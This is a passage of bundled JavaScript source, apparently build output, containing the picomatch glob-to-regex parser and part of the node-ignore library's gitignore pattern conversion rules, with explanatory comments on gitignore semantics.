          if (!next) {
            value += "\\";
            push({ type: "text", value });
            continue;
          }
          const match = /^\\+/.exec(remaining());
          let slashes = 0;
          if (match && match[0].length > 2) {
            slashes = match[0].length;
            state.index += slashes;
            if (slashes % 2 !== 0) {
              value += "\\";
            }
          }
          if (opts.unescape === true) {
            value = advance();
          } else {
            value += advance();
          }
          if (state.brackets === 0) {
            push({ type: "text", value });
            continue;
          }
        }
        if (state.brackets > 0 && (value !== "]" || prev.value === "[" || prev.value === "[^")) {
          if (opts.posix !== false && value === ":") {
            const inner = prev.value.slice(1);
            if (inner.includes("[")) {
              prev.posix = true;
              if (inner.includes(":")) {
                const idx = prev.value.lastIndexOf("[");
                const pre = prev.value.slice(0, idx);
                const rest2 = prev.value.slice(idx + 2);
                const posix = POSIX_REGEX_SOURCE[rest2];
                if (posix) {
                  prev.value = pre + posix;
                  state.backtrack = true;
                  advance();
                  if (!bos.output && tokens.indexOf(prev) === 1) {
                    bos.output = ONE_CHAR;
                  }
                  continue;
                }
              }
            }
          }
          if (value === "[" && peek() !== ":" || value === "-" && peek() === "]") {
            value = `\\${value}`;
          }
          if (value === "]" && (prev.value === "[" || prev.value === "[^")) {
            value = `\\${value}`;
          }
          if (opts.posix === true && value === "!" && prev.value === "[") {
            value = "^";
          }
          prev.value += value;
          append({ value });
          continue;
        }
        if (state.quotes === 1 && value !== '"') {
          value = utils.escapeRegex(value);
          prev.value += value;
          append({ value });
          continue;
        }
        if (value === '"') {
          state.quotes = state.quotes === 1 ? 0 : 1;
          if (opts.keepQuotes === true) {
            push({ type: "text", value });
          }
          continue;
        }
        if (value === "(") {
          increment("parens");
          push({ type: "paren", value });
          continue;
        }
        if (value === ")") {
          if (state.parens === 0 && opts.strictBrackets === true) {
            throw new SyntaxError(syntaxError("opening", "("));
          }
          const extglob = extglobs[extglobs.length - 1];
          if (extglob && state.parens === extglob.parens + 1) {
            extglobClose(extglobs.pop());
            continue;
          }
          push({ type: "paren", value, output: state.parens ? ")" : "\\)" });
          decrement("parens");
          continue;
        }
        if (value === "[") {
          if (opts.nobracket === true || !remaining().includes("]")) {
            if (opts.nobracket !== true && opts.strictBrackets === true) {
              throw new SyntaxError(syntaxError("closing", "]"));
            }
            value = `\\${value}`;
          } else {
            increment("brackets");
          }
          push({ type: "bracket", value });
          continue;
        }
        if (value === "]") {
          if (opts.nobracket === true || prev && prev.type === "bracket" && prev.value.length === 1) {
            push({ type: "text", value, output: `\\${value}` });
            continue;
          }
          if (state.brackets === 0) {
            if (opts.strictBrackets === true) {
              throw new SyntaxError(syntaxError("opening", "["));
            }
            push({ type: "text", value, output: `\\${value}` });
            continue;
          }
          decrement("brackets");
          const prevValue = prev.value.slice(1);
          if (prev.posix !== true && prevValue[0] === "^" && !prevValue.includes("/")) {
            value = `/${value}`;
          }
          prev.value += value;
          append({ value });
          if (opts.literalBrackets === false || utils.hasRegexChars(prevValue)) {
            continue;
          }
          const escaped = utils.escapeRegex(prev.value);
          state.output = state.output.slice(0, -prev.value.length);
          if (opts.literalBrackets === true) {
            state.output += escaped;
            prev.value = escaped;
            continue;
          }
          prev.value = `(${capture}${escaped}|${prev.value})`;
          state.output += prev.value;
          continue;
        }
        if (value === "{" && opts.nobrace !== true) {
          increment("braces");
          const open3 = {
            type: "brace",
            value,
            output: "(",
            outputIndex: state.output.length,
            tokensIndex: state.tokens.length
          };
          braces.push(open3);
          push(open3);
          continue;
        }
        if (value === "}") {
          const brace = braces[braces.length - 1];
          if (opts.nobrace === true || !brace) {
            push({ type: "text", value, output: value });
            continue;
          }
          let output = ")";
          if (brace.dots === true) {
            const arr = tokens.slice();
            const range = [];
            for (let i2 = arr.length - 1; i2 >= 0; i2--) {
              tokens.pop();
              if (arr[i2].type === "brace") {
                break;
              }
              if (arr[i2].type !== "dots") {
                range.unshift(arr[i2].value);
              }
            }
            output = expandRange(range, opts);
            state.backtrack = true;
          }
          if (brace.comma !== true && brace.dots !== true) {
            const out2 = state.output.slice(0, brace.outputIndex);
            const toks = state.tokens.slice(brace.tokensIndex);
            brace.value = brace.output = "\\{";
            value = output = "\\}";
            state.output = out2;
            for (const t of toks) {
              state.output += t.output || t.value;
            }
          }
          push({ type: "brace", value, output });
          decrement("braces");
          braces.pop();
          continue;
        }
        if (value === "|") {
          if (extglobs.length > 0) {
            extglobs[extglobs.length - 1].conditions++;
          }
          push({ type: "text", value });
          continue;
        }
        if (value === ",") {
          let output = value;
          const brace = braces[braces.length - 1];
          if (brace && stack[stack.length - 1] === "braces") {
            brace.comma = true;
            output = "|";
          }
          push({ type: "comma", value, output });
          continue;
        }
        if (value === "/") {
          if (prev.type === "dot" && state.index === state.start + 1) {
            state.start = state.index + 1;
            state.consumed = "";
            state.output = "";
            tokens.pop();
            prev = bos;
            continue;
          }
          push({ type: "slash", value, output: SLASH_LITERAL });
          continue;
        }
        if (value === ".") {
          if (state.braces > 0 && prev.type === "dot") {
            if (prev.value === ".") prev.output = DOT_LITERAL;
            const brace = braces[braces.length - 1];
            prev.type = "dots";
            prev.output += value;
            prev.value += value;
            brace.dots = true;
            continue;
          }
          if (state.braces + state.parens === 0 && prev.type !== "bos" && prev.type !== "slash") {
            push({ type: "text", value, output: DOT_LITERAL });
            continue;
          }
          push({ type: "dot", value, output: DOT_LITERAL });
          continue;
        }
        if (value === "?") {
          const isGroup = prev && prev.value === "(";
          if (!isGroup && opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
            extglobOpen("qmark", value);
            continue;
          }
          if (prev && prev.type === "paren") {
            const next = peek();
            let output = value;
            if (prev.value === "(" && !/[!=<:]/.test(next) || next === "<" && !/<([!=]|\w+>)/.test(remaining())) {
              output = `\\${value}`;
            }
            push({ type: "text", value, output });
            continue;
          }
          if (opts.dot !== true && (prev.type === "slash" || prev.type === "bos")) {
            push({ type: "qmark", value, output: QMARK_NO_DOT });
            continue;
          }
          push({ type: "qmark", value, output: QMARK });
          continue;
        }
        if (value === "!") {
          if (opts.noextglob !== true && peek() === "(") {
            if (peek(2) !== "?" || !/[!=<:]/.test(peek(3))) {
              extglobOpen("negate", value);
              continue;
            }
          }
          if (opts.nonegate !== true && state.index === 0) {
            negate();
            continue;
          }
        }
        if (value === "+") {
          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
            extglobOpen("plus", value);
            continue;
          }
          if (prev && prev.value === "(" || opts.regex === false) {
            push({ type: "plus", value, output: PLUS_LITERAL });
            continue;
          }
          if (prev && (prev.type === "bracket" || prev.type === "paren" || prev.type === "brace") || state.parens > 0) {
            push({ type: "plus", value });
            continue;
          }
          push({ type: "plus", value: PLUS_LITERAL });
          continue;
        }
        if (value === "@") {
          if (opts.noextglob !== true && peek() === "(" && peek(2) !== "?") {
            push({ type: "at", extglob: true, value, output: "" });
            continue;
          }
          push({ type: "text", value });
          continue;
        }
        if (value !== "*") {
          if (value === "$" || value === "^") {
            value = `\\${value}`;
          }
          const match = REGEX_NON_SPECIAL_CHARS.exec(remaining());
          if (match) {
            value += match[0];
            state.index += match[0].length;
          }
          push({ type: "text", value });
          continue;
        }
        if (prev && (prev.type === "globstar" || prev.star === true)) {
          prev.type = "star";
          prev.star = true;
          prev.value += value;
          prev.output = star;
          state.backtrack = true;
          state.globstar = true;
          consume(value);
          continue;
        }
        let rest = remaining();
        if (opts.noextglob !== true && /^\([^?]/.test(rest)) {
          extglobOpen("star", value);
          continue;
        }
        if (prev.type === "star") {
          if (opts.noglobstar === true) {
            consume(value);
            continue;
          }
          const prior = prev.prev;
          const before = prior.prev;
          const isStart = prior.type === "slash" || prior.type === "bos";
          const afterStar = before && (before.type === "star" || before.type === "globstar");
          if (opts.bash === true && (!isStart || rest[0] && rest[0] !== "/")) {
            push({ type: "star", value, output: "" });
            continue;
          }
          const isBrace = state.braces > 0 && (prior.type === "comma" || prior.type === "brace");
          const isExtglob = extglobs.length && (prior.type === "pipe" || prior.type === "paren");
          if (!isStart && prior.type !== "paren" && !isBrace && !isExtglob) {
            push({ type: "star", value, output: "" });
            continue;
          }
          while (rest.slice(0, 3) === "/**") {
            const after = input[state.index + 4];
            if (after && after !== "/") {
              break;
            }
            rest = rest.slice(3);
            consume("/**", 3);
          }
          const isEnd = eos() || state.parens > 0 && rest === ")".repeat(state.parens) && !extglobs.some((extglob) => extglob.type === "negate");
          if (prior.type === "bos" && eos()) {
            prev.type = "globstar";
            prev.value += value;
            prev.output = globstar(opts);
            state.output = prev.output;
            state.globstar = true;
            consume(value);
            continue;
          }
          if (prior.type === "slash" && prior.prev.type !== "bos" && !afterStar && isEnd) {
            state.output = state.output.slice(0, -(prior.output + prev.output).length);
            prior.output = `(?:${prior.output}`;
            prev.type = "globstar";
            prev.output = globstar(opts) + (opts.strictSlashes ? ")" : "|$)");
            prev.value += value;
            state.globstar = true;
            state.output += prior.output + prev.output;
            consume(value);
            continue;
          }
          if (prior.type === "slash" && prior.prev.type !== "bos" && rest[0] === "/") {
            const end = rest[1] !== void 0 ? "|$" : "";
            state.output = state.output.slice(0, -(prior.output + prev.output).length);
            prior.output = `(?:${prior.output}`;
            prev.type = "globstar";
            prev.output = `${globstar(opts)}${SLASH_LITERAL}|${SLASH_LITERAL}${end})`;
            prev.value += value;
            state.output += prior.output + prev.output;
            state.globstar = true;
            consume(value + advance());
            push({ type: "slash", value: "/", output: "" });
            continue;
          }
          if (prior.type === "bos" && rest[0] === "/") {
            prev.type = "globstar";
            prev.value += value;
            prev.output = `(?:^|${SLASH_LITERAL}|${globstar(opts)}${SLASH_LITERAL})`;
            state.output = prev.output;
            state.globstar = true;
            consume(value + advance());
            push({ type: "slash", value: "/", output: "" });
            continue;
          }
          state.output = state.output.slice(0, -prev.output.length);
          prev.type = "globstar";
          prev.output = globstar(opts);
          prev.value += value;
          state.output += prev.output;
          state.globstar = true;
          consume(value);
          continue;
        }
        const token = { type: "star", value, output: star };
        if (opts.bash === true) {
          token.output = ".*?";
          if (prev.type === "bos" || prev.type === "slash") {
            token.output = nodot + token.output;
          }
          push(token);
          continue;
        }
        if (prev && (prev.type === "bracket" || prev.type === "paren") && opts.regex === true) {
          token.output = value;
          push(token);
          continue;
        }
        if (state.index === state.start || prev.type === "slash" || prev.type === "dot") {
          if (prev.type === "dot") {
            state.output += NO_DOT_SLASH;
            prev.output += NO_DOT_SLASH;
          } else if (opts.dot === true) {
            state.output += NO_DOTS_SLASH;
            prev.output += NO_DOTS_SLASH;
          } else {
            state.output += nodot;
            prev.output += nodot;
          }
          if (peek() !== "*") {
            state.output += ONE_CHAR;
            prev.output += ONE_CHAR;
          }
        }
        push(token);
      }
      while (state.brackets > 0) {
        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", "]"));
        state.output = utils.escapeLast(state.output, "[");
        decrement("brackets");
      }
      while (state.parens > 0) {
        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", ")"));
        state.output = utils.escapeLast(state.output, "(");
        decrement("parens");
      }
      while (state.braces > 0) {
        if (opts.strictBrackets === true) throw new SyntaxError(syntaxError("closing", "}"));
        state.output = utils.escapeLast(state.output, "{");
        decrement("braces");
      }
      if (opts.strictSlashes !== true && (prev.type === "star" || prev.type === "bracket")) {
        push({ type: "maybe_slash", value: "", output: `${SLASH_LITERAL}?` });
      }
      if (state.backtrack === true) {
        state.output = "";
        for (const token of state.tokens) {
          state.output += token.output != null ? token.output : token.value;
          if (token.suffix) {
            state.output += token.suffix;
          }
        }
      }
      return state;
    };
    parse4.fastpaths = (input, options) => {
      const opts = { ...options };
      const max = typeof opts.maxLength === "number" ? Math.min(MAX_LENGTH, opts.maxLength) : MAX_LENGTH;
      const len = input.length;
      if (len > max) {
        throw new SyntaxError(`Input length: ${len}, exceeds maximum allowed length: ${max}`);
      }
      input = REPLACEMENTS[input] || input;
      const {
        DOT_LITERAL,
        SLASH_LITERAL,
        ONE_CHAR,
        DOTS_SLASH,
        NO_DOT,
        NO_DOTS,
        NO_DOTS_SLASH,
        STAR,
        START_ANCHOR
      } = constants.globChars(opts.windows);
      const nodot = opts.dot ? NO_DOTS : NO_DOT;
      const slashDot = opts.dot ? NO_DOTS_SLASH : NO_DOT;
      const capture = opts.capture ? "" : "?:";
      const state = { negated: false, prefix: "" };
      let star = opts.bash === true ? ".*?" : STAR;
      if (opts.capture) {
        star = `(${star})`;
      }
      const globstar = (opts2) => {
        if (opts2.noglobstar === true) return star;
        return `(${capture}(?:(?!${START_ANCHOR}${opts2.dot ? DOTS_SLASH : DOT_LITERAL}).)*?)`;
      };
      const create = (str) => {
        switch (str) {
          case "*":
            return `${nodot}${ONE_CHAR}${star}`;
          case ".*":
            return `${DOT_LITERAL}${ONE_CHAR}${star}`;
          case "*.*":
            return `${nodot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;
          case "*/*":
            return `${nodot}${star}${SLASH_LITERAL}${ONE_CHAR}${slashDot}${star}`;
          case "**":
            return nodot + globstar(opts);
          case "**/*":
            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${ONE_CHAR}${star}`;
          case "**/*.*":
            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${slashDot}${star}${DOT_LITERAL}${ONE_CHAR}${star}`;
          case "**/.*":
            return `(?:${nodot}${globstar(opts)}${SLASH_LITERAL})?${DOT_LITERAL}${ONE_CHAR}${star}`;
          default: {
            const match = /^(.*?)\.(\w+)$/.exec(str);
            if (!match) return;
            const source2 = create(match[1]);
            if (!source2) return;
            return source2 + DOT_LITERAL + match[2];
          }
        }
      };
      const output = utils.removePrefix(input, state);
      let source = create(output);
      if (source && opts.strictSlashes !== true) {
        source += `${SLASH_LITERAL}?`;
      }
      return source;
    };
    module2.exports = parse4;
  }
});

// node_modules/picomatch/lib/picomatch.js
var require_picomatch = __commonJS({
  "node_modules/picomatch/lib/picomatch.js"(exports, module2) {
    "use strict";
    var scan = require_scan();
    var parse4 = require_parse();
    var utils = require_utils();
    var constants = require_constants();
    var isObject = (val) => val && typeof val === "object" && !Array.isArray(val);
    var picomatch3 = (glob, options, returnState = false) => {
      if (Array.isArray(glob)) {
        const fns = glob.map((input) => picomatch3(input, options, returnState));
        const arrayMatcher = (str) => {
          for (const isMatch of fns) {
            const state2 = isMatch(str);
            if (state2) return state2;
          }
          return false;
        };
        return arrayMatcher;
      }
      const isState = isObject(glob) && glob.tokens && glob.input;
      if (glob === "" || typeof glob !== "string" && !isState) {
        throw new TypeError("Expected pattern to be a non-empty string");
      }
      const opts = options || {};
      const posix = opts.windows;
      const regex2 = isState ? picomatch3.compileRe(glob, options) : picomatch3.makeRe(glob, options, false, true);
      const state = regex2.state;
      delete regex2.state;
      let isIgnored2 = () => false;
      if (opts.ignore) {
        const ignoreOpts = { ...options, ignore: null, onMatch: null, onResult: null };
        isIgnored2 = picomatch3(opts.ignore, ignoreOpts, returnState);
      }
      const matcher = (input, returnObject = false) => {
        const { isMatch, match, output } = picomatch3.test(input, regex2, options, { glob, posix });
        const result2 = { glob, state, regex: regex2, posix, input, output, match, isMatch };
        if (typeof opts.onResult === "function") {
          opts.onResult(result2);
        }
        if (isMatch === false) {
          result2.isMatch = false;
          return returnObject ? result2 : false;
        }
        if (isIgnored2(input)) {
          if (typeof opts.onIgnore === "function") {
            opts.onIgnore(result2);
          }
          result2.isMatch = false;
          return returnObject ? result2 : false;
        }
        if (typeof opts.onMatch === "function") {
          opts.onMatch(result2);
        }
        return returnObject ? result2 : true;
      };
      if (returnState) {
        matcher.state = state;
      }
      return matcher;
    };
    picomatch3.test = (input, regex2, options, { glob, posix } = {}) => {
      if (typeof input !== "string") {
        throw new TypeError("Expected input to be a string");
      }
      if (input === "") {
        return { isMatch: false, output: "" };
      }
      const opts = options || {};
      const format = opts.format || (posix ? utils.toPosixSlashes : null);
      let match = input === glob;
      let output = match && format ? format(input) : input;
      if (match === false) {
        output = format ? format(input) : input;
        match = output === glob;
      }
      if (match === false || opts.capture === true) {
        if (opts.matchBase === true || opts.basename === true) {
          match = picomatch3.matchBase(input, regex2, options, posix);
        } else {
          match = regex2.exec(output);
        }
      }
      return { isMatch: Boolean(match), match, output };
    };
    picomatch3.matchBase = (input, glob, options, posix = options && options.windows) => {
      const regex2 = glob instanceof RegExp ? glob : picomatch3.makeRe(glob, options);
      return regex2.test(utils.basename(input, { windows: posix }));
    };
    picomatch3.isMatch = (str, patterns, options) => picomatch3(patterns, options)(str);
    picomatch3.parse = (pattern, options) => {
      if (Array.isArray(pattern)) return pattern.map((p) => picomatch3.parse(p, options));
      return parse4(pattern, { ...options, fastpaths: false });
    };
    picomatch3.scan = (input, options) => scan(input, options);
    picomatch3.compileRe = (state, options, returnOutput = false, returnState = false) => {
      if (returnOutput === true) {
        return state.output;
      }
      const opts = options || {};
      const prepend = opts.contains ? "" : "^";
      const append = opts.contains ? "" : "$";
      let source = `${prepend}(?:${state.output})${append}`;
      if (state && state.negated === true) {
        source = `^(?!${source}).*$`;
      }
      const regex2 = picomatch3.toRegex(source, options);
      if (returnState === true) {
        regex2.state = state;
      }
      return regex2;
    };
    picomatch3.makeRe = (input, options = {}, returnOutput = false, returnState = false) => {
      if (!input || typeof input !== "string") {
        throw new TypeError("Expected a non-empty string");
      }
      let parsed = { negated: false, fastpaths: true };
      if (options.fastpaths !== false && (input[0] === "." || input[0] === "*")) {
        parsed.output = parse4.fastpaths(input, options);
      }
      if (!parsed.output) {
        parsed = parse4(input, options);
      }
      return picomatch3.compileRe(parsed, options, returnOutput, returnState);
    };
    picomatch3.toRegex = (source, options) => {
      try {
        const opts = options || {};
        return new RegExp(source, opts.flags || (opts.nocase ? "i" : ""));
      } catch (err2) {
        if (options && options.debug === true) throw err2;
        return /$^/;
      }
    };
    picomatch3.constants = constants;
    module2.exports = picomatch3;
  }
});

// node_modules/picomatch/index.js
var require_picomatch2 = __commonJS({
  "node_modules/picomatch/index.js"(exports, module2) {
    "use strict";
    var pico = require_picomatch();
    var utils = require_utils();
    function picomatch3(glob, options, returnState = false) {
      if (options && (options.windows === null || options.windows === void 0)) {
        options = { ...options, windows: utils.isWindows() };
      }
      return pico(glob, options, returnState);
    }
    Object.assign(picomatch3, pico);
    module2.exports = picomatch3;
  }
});

// node_modules/ignore/index.js
var require_ignore = __commonJS({
  "node_modules/ignore/index.js"(exports, module2) {
    function makeArray(subject) {
      return Array.isArray(subject) ? subject : [subject];
    }
    var UNDEFINED = void 0;
    var EMPTY = "";
    var SPACE = " ";
    var ESCAPE = "\\";
    var REGEX_LITERAL_SPECIAL = /[.*+?()[\]{}^$|\\/]/;
    var BOM = "\uFEFF";
    var REGEX_ANCHORED_GLOBSTAR = /^\/\*{2,}$/;
    var REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION = /^\\!/;
    var REGEX_REPLACE_LEADING_EXCAPED_HASH = /^\\#/;
    var REGEX_SPLITALL_CRLF = /\r?\n/g;
    var DOUBLE_SLASH = "//";
    var SLASH_CODE = 47;
    var DOT_CODE = 46;
    var SLASH = "/";
    var TMP_KEY_IGNORE = "node-ignore";
    if (typeof Symbol !== "undefined") {
      TMP_KEY_IGNORE = /* @__PURE__ */ Symbol.for("node-ignore");
    }
    var KEY_IGNORE = TMP_KEY_IGNORE;
    var define2 = (object, key, value) => {
      Object.defineProperty(object, key, { value });
      return value;
    };
    var RETURN_FALSE = () => false;
    var POSIX_CLASSES = {
      alnum: "0-9A-Za-z",
      alpha: "A-Za-z",
      blank: " \\t",
      cntrl: "\\x00-\\x1f\\x7f",
      digit: "0-9",
      graph: "!-.0-~",
      lower: "a-z",
      print: " -.0-~",
      punct: "!-.:-@\\[-`{-~",
      // git's `sane-ctype.h` classifies \v and \f as control, not space,
      //   unlike C's `isspace`
      space: " \\t\\n\\r",
      upper: "A-Z",
      xdigit: "0-9A-Fa-f"
    };
    var CLASS_MEMBERS_TO_ESCAPE = "\\]^-[";
    var escapeMember = (char) => CLASS_MEMBERS_TO_ESCAPE.indexOf(char) < 0 ? char : ESCAPE + char;
    var NON_SLASH = "(?!\\/)";
    var classSource = (negated, body2) => {
      if (negated) {
        return `[^\\/${body2}]`;
      }
      const source = `[${body2}]`;
      return new RegExp(source).test("/") ? NON_SLASH + source : source;
    };
    var scanBracket = (pattern, start2) => {
      const { length } = pattern;
      let index = start2 + 1;
      let negated = EMPTY;
      const lead = pattern[index];
      if (lead === "!" || lead === "^") {
        negated = "^";
        index++;
      }
      let body2 = EMPTY;
      let prev = EMPTY;
      for (; ; ) {
        const char = pattern[index];
        if (char === UNDEFINED) {
          return null;
        }
        if (char === ESCAPE) {
          const escaped = pattern[++index];
          body2 += escapeMember(escaped);
          prev = escaped;
        } else if (char === "-" && prev && index + 1 < length && pattern[index + 1] !== "]") {
          index++;
          let to = pattern[index];
          if (to === ESCAPE) {
            to = pattern[index += 1];
          }
          if (prev <= to) {
            body2 += `-${escapeMember(to)}`;
          }
          prev = EMPTY;
        } else if (char === "[" && pattern[index + 1] === ":") {
          const nameStart = index + 2;
          let end = nameStart;
          while (end < length && pattern[end] !== "]") {
            end++;
          }
          if (end === length) {
            return null;
          }
          if (end > nameStart && pattern[end - 1] === ":") {
            const name2 = pattern.slice(nameStart, end - 1);
            if (!Object.prototype.hasOwnProperty.call(POSIX_CLASSES, name2)) {
              return null;
            }
            body2 += POSIX_CLASSES[name2];
            prev = EMPTY;
            index = end;
          } else {
            body2 += escapeMember("[");
            prev = "[";
            index = nameStart - 2;
          }
        } else {
          body2 += escapeMember(char);
          prev = char;
        }
        index++;
        if (pattern[index] === "]") {
          return {
            end: index,
            source: classSource(negated, body2)
          };
        }
      }
    };
    var NEVER_MATCH = "[]";
    var PLACEHOLDER = "\0";
    var REGEX_RESTORE_PLACEHOLDER = new RegExp(
      `${PLACEHOLDER}(\\d+)${PLACEHOLDER}`,
      "g"
    );
    var TRAILING_WILDCARD = "\uE000";
    var TRAILING_DOUBLESTAR = "\uE001";
    var isReserved = (char) => char === PLACEHOLDER || char === TRAILING_WILDCARD || char === TRAILING_DOUBLESTAR;
    var extractBrackets = (pattern) => {
      const sources = [];
      const hold = (source) => `${PLACEHOLDER}${sources.push(source) - 1}${PLACEHOLDER}`;
      const { length } = pattern;
      let out2 = EMPTY;
      let index = 0;
      while (index < length) {
        const char = pattern[index];
        if (char === ESCAPE) {
          const escaped = pattern[index + 1];
          if (escaped === SLASH && index + 2 === length) {
            out2 += hold(NEVER_MATCH);
          } else if (escaped === "*" || escaped === "[" || escaped === SPACE) {
            out2 += pattern.slice(index, index + 2);
          } else {
            out2 += hold(
              REGEX_LITERAL_SPECIAL.test(escaped) ? ESCAPE + escaped : isReserved(escaped) ? `[${escaped}]` : escaped
            );
          }
          index += 2;
        } else if (isReserved(char)) {
          out2 += hold(`[${char}]`);
          index++;
        } else if (char === "[") {
          const scanned = scanBracket(pattern, index);
          if (scanned === null) {
            out2 += hold(NEVER_MATCH);
            index = length;
          } else {
            out2 += hold(scanned.source);
            index = scanned.end + 1;
          }
        } else {
          out2 += char;
          index++;
        }
      }
      return {
        source: out2,
        sources
      };
    };
    var DIRECT = null;
    var REGEX_INNER_SLASH = /\/(?!$)/;
    var WILDCARD = "[^\\/]*";
    var REPLACERS = [
      // Replace (\ ) with ' '
      // Only a space: an escaped tab or other whitespace is already a literal by
      //   the time it reaches here, and a bare tab must be left as one, not turned
      //   into a space.
      // (\ ) -> ' '
      // (\\ ) -> '\\ '
      // (\\\ ) -> '\\ '
      [
        // A run of backslashes is taken whole, from its first one, so no match
        //   ever starts again inside it -- `(\\+?) ` did, which made a long run
        //   quadratic.
        /(\\+)( ?)/g,
        (_, run3, space) => space ? run3.slice(0, run3.length - run3.length % 2) + SPACE : run3,
        ESCAPE + SPACE
      ],
      // git's wildmatch() reads a run of two or more asterisks as one globstar
      //   whenever the run fills a path segment: it starts the pattern or follows
      //   a `/`, and it ends the pattern or comes before a `/`. A run of two is
      //   already `**`; a longer one is folded into `**` here, so the steps
      //   below only ever have to know `**`.
      // `***/foo` -> `**/foo`, `a/***/b` -> `a/**/b`, `a/***` -> `a/**`
      // git also takes a run beside a literal prefix (`a***/b`) or beside an
      //   escaped slash (`***\/b`) as a globstar, and this does not; the README
      //   lists both, under "A run of asterisks".
      [
        /(^|\/)\*{3,}(?=\/|$)/g,
        (_, start2) => `${start2}**`,
        "*"
      ],
      // Escape metacharacters
      // which is written down by users but means special for regular expressions.
      // > There are 12 characters with special meanings:
      // > - the backslash \,
      // > - the caret ^,
      // > - the dollar sign $,
      // > - the period or dot .,
      // > - the vertical bar or pipe symbol |,
      // > - the question mark ?,
      // > - the asterisk or star *,
      // > - the plus sign +,
      // > - the opening parenthesis (,
      // > - the closing parenthesis ),
      // > - and the opening square bracket [,
      // > - the opening curly brace {,
      // > These special characters are often called "metacharacters".
      [
        /[\\$.|*+(){^]/g,
        (match) => `\\${match}`
      ],
      [
        // > a question mark (?) matches a single character
        /(?!\\)\?/g,
        () => "[^/]",
        "?"
      ],
      // leading slash
      [
        // > A leading slash matches the beginning of the pathname.
        // > For example, "/*.c" matches "cat-file.c" but not "mozilla-sha1/sha1.c".
        // A leading slash matches the beginning of the pathname
        /^\//,
        () => "^",
        SLASH
      ],
      // replace special metacharacter slash after the leading slash
      [
        /\//g,
        () => "\\/",
        SLASH
      ],
      [
        // > A leading "**" followed by a slash means match in all directories.
        // > For example, "**/foo" matches file or directory "foo" anywhere,
        // > the same as pattern "foo".
        // > "**/foo/bar" matches file or directory "bar" anywhere that is directly
        // >   under directory "foo".
        // Notice that the '*'s have been replaced as '\\*'
        /^\^*(?:\\\*\\\*\\\/)+/,
        // '**/foo' <-> 'foo'
        () => "(?:^|\\/)",
        "*"
      ],
      // starting
      [
        // there will be no leading '/'
        //   (which has been replaced by section "leading slash")
        // If starts with '**', adding a '^' to the regular expression also works
        DIRECT,
        (source, pattern) => {
          if (!source || source[0] === "^" || source[0] === "(") {
            return source;
          }
          const anchor = !REGEX_INNER_SLASH.test(pattern) ? "(?:^|\\/)" : "^";
          return anchor + source;
        }
      ],
      // two globstars
      [
        // Use lookahead assertions so that we could match more than one `'/**'`
        /\\\/\\\*\\\*(?=\\\/|$)/g,
        // Zero, one or several directories
        // should not use '*', or it will be replaced by the next replacer
        // Check if it is not the last `'/**'`
        (_, index, str) => index + 6 < str.length ? str.slice(index + 6) === "\\/" ? "(?:\\/[^\\/]+)+" : "(?:\\/[^\\/]+)*" : `\\/${TRAILING_DOUBLESTAR}`,
        "*"
      ],
      // normal intermediate wildcards
      [
        // Never replace escaped '*'
        // ignore rule '\*' will match the path '*'
        // 'abc.*/' -> go
        // 'abc.*'  -> skip this rule,
        //    coz trailing single wildcard will be handed by [trailing wildcard]
        /(^|[^\\])(?:\\\*)+(?!$)/g,
        // '*.js' matches '.js'
        // '*.js' doesn't match 'abc'
        // 1. An asterisk "*" matches anything except a slash.
        // 2. Other consecutive asterisks are considered regular asterisks
        //    and collapse into one non-slash wildcard run.
        (_, p1) => p1 + WILDCARD,
        "*"
      ],
      // trailing wildcard, held apart from a literal star
      [
        // The step above leaves a trailing `*` alone, so a single `\*` is all that
        //   can be left at the end here, and what stands in front of it says which
        //   kind it is. A wildcard arrives as the escaper wrote it, `\*` with
        //   nothing before it; a literal arrives as the user's own escape, which
        //   the escaper doubled, and then the star's own -- `\\` and then `\*`.
        //   There is no third case: every backslash still reaching the chain is
        //   one `\*`, `\[` or `\ ` carries itself, and each is followed by its
        //   own character, so a longer run can never form. This runs while the
        //   two are still distinct, before the unescape steps below collapse the
        //   literal onto the very `\*` a wildcard leaves behind.
        /(^|[^\\])((?:\\\\)*)\\\*$/,
        (match, p1, p2) => p2 === EMPTY ? p1 + TRAILING_WILDCARD : match,
        "*"
      ],
      [
        // unescape, revert step 3 except for back slash
        // For example, if a user escape a '\\*',
        // after step 3, the result will be '\\\\\\*'
        /\\\\\\(?=[$.|*+(){^])/g,
        () => ESCAPE,
        ESCAPE + ESCAPE
      ],
      [
        // '\\\\' -> '\\'
        /\\\\/g,
        () => ESCAPE,
        ESCAPE + ESCAPE
      ],
      [
        // Every real bracket expression -- POSIX classes included -- has already
        //   been held aside by `extractBrackets`, so the only `[` left in the
        //   pattern is an escaped, literal one.
        // A backslash could only stand at the end of the range if it quoted the
        //   `]`, and `\]` is held aside long before this.
        /\\\[([^\]/]*?)($|\])/g,
        // '\\[bar]' -> '\\\\[bar]'
        (match, range, close) => `\\[${range}${close}`,
        "["
      ],
      // ending
      [
        // 'js' will not match 'js.'
        // 'ab' will not match 'abc'
        DIRECT,
        // WTF!
        // https://git-scm.com/docs/gitignore
        // changes in [2.22.1](https://git-scm.com/docs/gitignore/2.22.1)
        // which re-fixes #24, #38
        // > If there is a separator at the end of the pattern then the pattern
        // > will only match directories, otherwise the pattern can match both
        // > files and directories.
        // 'js*' will not match 'a.js'
        // 'js/' will not match 'a.js'
        // 'js' will match 'a.js' and 'a.js/'
        (source) => {
          const last = source[source.length - 1];
          if (!last || last === TRAILING_WILDCARD || last === TRAILING_DOUBLESTAR) {
            return source;
          }
          return last === SLASH ? `${source}$` : `${source}(?=$|\\/$)`;
        }
      ]
    ];
    var REGEX_REPLACE_TRAILING_WILDCARD = /(^|\\\/)?\uE000$/;
    var MODE_IGNORE = "regex";
    var MODE_CHECK_IGNORE = "checkRegex";
    var UNDERSCORE = "_";
    var replaceTrailingWildcard = (_, p1) => {
      const prefix = p1 ? `${p1}[^/]+` : "[^/]*";
      return `${prefix}(?=$|\\/$)`;
    };
    var REGEX_REPLACE_TRAILING_DOUBLESTAR = /\uE001$/;
    var replaceTrailingDoublestar = () => "[\\s\\S]";
    var separatorAfter = (run3, at) => {
      let separator = EMPTY;
      for (let index = at + 1; index < run3.length && !run3[index].wildcard; index++) {
        separator += run3[index].single;
      }
